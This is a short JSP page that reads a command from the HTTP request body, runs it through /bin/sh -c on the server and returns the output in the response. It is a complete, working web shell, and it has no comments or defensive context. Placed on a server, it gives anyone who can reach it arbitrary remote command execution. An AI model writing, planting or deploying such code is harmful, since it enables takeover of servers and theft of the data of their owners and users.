<%@ page import="java.io.*" %>
<%
    String c = request.getReader().readLine();
    Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});
    BufferedReader o = new BufferedReader(new InputStreamReader(p.getInputStream()));
    for (String l; (l = o.readLine()) != null; ) out.println(l);
%>
